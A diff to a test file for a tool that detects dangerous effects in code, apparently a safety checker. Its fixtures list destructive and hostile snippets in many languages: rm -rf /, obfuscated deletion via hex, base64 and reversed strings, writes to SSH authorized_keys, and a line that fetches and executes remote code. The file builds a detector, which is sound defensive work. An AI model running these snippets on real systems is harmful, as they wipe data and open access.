@@ -7,10 +7,10 @@ const effects = (language: string, code: string) =>
 const findings = (language: string, code: string) =>
   readProgramText(language, code).effects.flatMap((effect) => judgeEffect(effect, 'code') ?? [])
 
-/** Language, program, an effect that it has. */
-const HITS: readonly (readonly [string, string, string])[] = [
+/** A program, and an effect that it has; most would delete everything. */
+const HITS: readonly (readonly [language: string, code: string, effect?: string])[] = [
   // Files.
-  ['python', "import shutil; shutil.rmtree('/')", 'delete path/root /'],
+  ['python', "import shutil; shutil.rmtree('/')"],
   ['python', "from shutil import rmtree as gone\ngone('/etc')", 'delete path/root /etc'],
   ['python', "import os\nos.remove(os.path.join('/etc', 'hosts'))", 'delete path/system /etc/hosts'],
   [
@@ -67,7 +67,7 @@ const HITS: readonly (readonly [string, string, string])[] = [
     'fs.appendFileSync(`${process.env.HOME}/.ssh/authorized_keys`, key)',
     'write path/login ~/.ssh/authorized_keys',
   ],
-  ['ruby', "require 'fileutils'\nFileUtils.rm_rf '/'", 'delete path/root /'],
+  ['ruby', "require 'fileutils'\nFileUtils.rm_rf '/'"],
   ['ruby', "File.delete('/etc/hosts')", 'delete path/system /etc/hosts'],
   ['ruby', "Dir['/etc/*'].each { |f| File.unlink(f) }", 'delete path/root /etc/*'],
   [
@@ -85,70 +85,49 @@ const HITS: readonly (readonly [string, string, string])[] = [
   ['lua', "os.remove('/etc/hosts')", 'delete path/system /etc/hosts'],
 
   // Commands.
-  ['python', "import os; os.system('rm -rf /')", 'delete path/root /'],
-  ['python', "import subprocess as s\ns.check_call(['rm', '-rf', '/'])", 'delete path/root /'],
-  ['python', "from subprocess import *\nrun('rm -rf /', shell=True)", 'delete path/root /'],
-  ['python', "import os\nf = os.system\nf('rm -rf /')", 'delete path/root /'],
-  ['python', "getattr(__import__('os'), 'sys' + 'tem')('rm -rf /')", 'delete path/root /'],
-  ['python', "x = 'rm -rf {}'.format('/')\n__import__('os').popen(x)", 'delete path/root /'],
-  ['python', "import os\nos.system('%s -rf %s' % ('rm', '/'))", 'delete path/root /'],
-  [
-    'python',
-    "import os\nos.system(''.join(chr(c) for c in [114, 109, 32, 45, 114, 32, 47]))",
-    'delete path/root /',
-  ],
-  ['python', "import os\nos.system('/ fr- mr'[::-1])", 'delete path/root /'],
-  ['python', "import os\nos.system(bytes.fromhex('726d202d72202f').decode())", 'delete path/root /'],
-  [
-    'python',
-    "import subprocess\nsubprocess.run(['bash'], input='rm -rf /', text=True)",
-    'delete path/root /',
-  ],
-  ['python', "import paramiko\nc = paramiko.SSHClient()\nc.exec_command('rm -rf /')", 'delete path/root /'],
-  ['javascript', "require('child_process').execSync('rm -rf /')", 'delete path/root /'],
-  [
-    'javascript',
-    "const { spawn: s } = require('node:child_process'); s('rm', ['-rf', '/'])",
-    'delete path/root /',
-  ],
-  [
-    'javascript',
-    "const cp = require('child_' + 'process'); cp['exec'](`rm ${'-rf'} /`)",
-    'delete path/root /',
-  ],
+  ['python', "import os; os.system('rm -rf /')"],
+  ['python', "import subprocess as s\ns.check_call(['rm', '-rf', '/'])"],
+  ['python', "from subprocess import *\nrun('rm -rf /', shell=True)"],
+  ['python', "import os\nf = os.system\nf('rm -rf /')"],
+  ['python', "getattr(__import__('os'), 'sys' + 'tem')('rm -rf /')"],
+  ['python', "x = 'rm -rf {}'.format('/')\n__import__('os').popen(x)"],
+  ['python', "import os\nos.system('%s -rf %s' % ('rm', '/'))"],
+  ['python', "import os\nos.system(''.join(chr(c) for c in [114, 109, 32, 45, 114, 32, 47]))"],
+  ['python', "import os\nos.system('/ fr- mr'[::-1])"],
+  ['python', "import os\nos.system(bytes.fromhex('726d202d72202f').decode())"],
+  ['python', "import subprocess\nsubprocess.run(['bash'], input='rm -rf /', text=True)"],
+  ['python', "import paramiko\nc = paramiko.SSHClient()\nc.exec_command('rm -rf /')"],
+  ['javascript', "require('child_process').execSync('rm -rf /')"],
+  ['javascript', "const { spawn: s } = require('node:child_process'); s('rm', ['-rf', '/'])"],
+  ['javascript', "const cp = require('child_' + 'process'); cp['exec'](`rm ${'-rf'} /`)"],
   [
     'javascript',
     "import { promisify } from 'util'; import { exec } from 'child_process'; await promisify(exec)('rm -rf /')",
-    'delete path/root /',
   ],
-  ['javascript', 'await $`rm -rf /`', 'delete path/root /'],
-  ['ruby', 'system("rm", "-rf", "/")', 'delete path/root /'],
-  ['ruby', '`rm -rf #{"/"}`', 'delete path/root /'],
-  ['ruby', "require 'open3'\nOpen3.capture3('rm -rf /')", 'delete path/root /'],
-  ['perl', 'my $c = "rm"; system("$c -rf /");', 'delete path/root /'],
-  ['perl', 'exec qw(rm -rf /);', 'delete path/root /'],
-  ['perl', 'print qx{rm -rf /};', 'delete path/root /'],
-  ['php', "<?php system('rm -rf /'); ?>", 'delete path/root /'],
-  ['php', "<?php $a = 'sys'; $b = $a . 'tem'; $b('rm -rf /');", 'delete path/root /'],
-  ['php', '<?php `rm -rf /`;', 'delete path/root /'],
-  ['go', 'exec.Command("rm", "-rf", "/").Run()', 'delete path/root /'],
-  ['java', 'Runtime.getRuntime().exec("rm -rf /");', 'delete path/root /'],
-  ['lua', "os.execute('rm -rf /')", 'delete path/root /'],
-  ['awk', 'BEGIN { system("rm -rf /") }', 'delete path/root /'],
-  ['awk', 'BEGIN { "rm -rf /" | getline x }', 'delete path/root /'],
-  ['r', 'unlink("/", recursive = TRUE)', 'delete path/root /'],
-  ['elixir', 'System.cmd("rm", ["-rf", "/"])', 'delete path/root /'],
-  ['applescript', 'do shell script "rm -rf /"', 'delete path/root /'],
+  ['javascript', 'await $`rm -rf /`'],
+  ['ruby', 'system("rm", "-rf", "/")'],
+  ['ruby', '`rm -rf #{"/"}`'],
+  ['ruby', "require 'open3'\nOpen3.capture3('rm -rf /')"],
+  ['perl', 'my $c = "rm"; system("$c -rf /");'],
+  ['perl', 'exec qw(rm -rf /);'],
+  ['perl', 'print qx{rm -rf /};'],
+  ['php', "<?php system('rm -rf /'); ?>"],
+  ['php', "<?php $a = 'sys'; $b = $a . 'tem'; $b('rm -rf /');"],
+  ['php', '<?php `rm -rf /`;'],
+  ['go', 'exec.Command("rm", "-rf", "/").Run()'],
+  ['java', 'Runtime.getRuntime().exec("rm -rf /");'],
+  ['lua', "os.execute('rm -rf /')"],
+  ['awk', 'BEGIN { system("rm -rf /") }'],
+  ['awk', 'BEGIN { "rm -rf /" | getline x }'],
+  ['r', 'unlink("/", recursive = TRUE)'],
+  ['elixir', 'System.cmd("rm", ["-rf", "/"])'],
+  ['applescript', 'do shell script "rm -rf /"'],
 
-  ['python', 'x = 1\n!rm -rf /\n%matplotlib inline', 'delete path/root /'],
+  ['python', 'x = 1\n!rm -rf /\n%matplotlib inline'],
 
   // Text that becomes a program.
-  ['python', 'eval(\'__import__("shutil").rmtree("/")\')', 'delete path/root /'],
-  [
-    'python',
-    "import base64; exec(base64.b64decode('aW1wb3J0IHNodXRpbDsgc2h1dGlsLnJtdHJlZSgnLycp'))",
-    'delete path/root /',
-  ],
+  ['python', 'eval(\'__import__("shutil").rmtree("/")\')'],
+  ['python', "import base64; exec(base64.b64decode('aW1wb3J0IHNodXRpbDsgc2h1dGlsLnJtdHJlZSgnLycp'))"],
   [
     'python',
     "import requests; exec(requests.get('https://get.example/a.py').text)",
@@ -265,7 +244,10 @@ const HITS: readonly (readonly [string, string, string])[] = [
 ]
 
 describe('what a program would do', () => {
-  it.each(HITS)('%s: %s', (language, code, expected) => expect(effects(language, code)).toContain(expected))
+  const whole = HITS.map(
+    ([language, code, effect = 'delete path/root /']) => [language, code, effect] as const,
+  )
+  it.each(whole)('%s: %s', (language, code, effect) => expect(effects(language, code)).toContain(effect))
 })
 
 const MISSES: readonly (readonly [string, string])[] = [
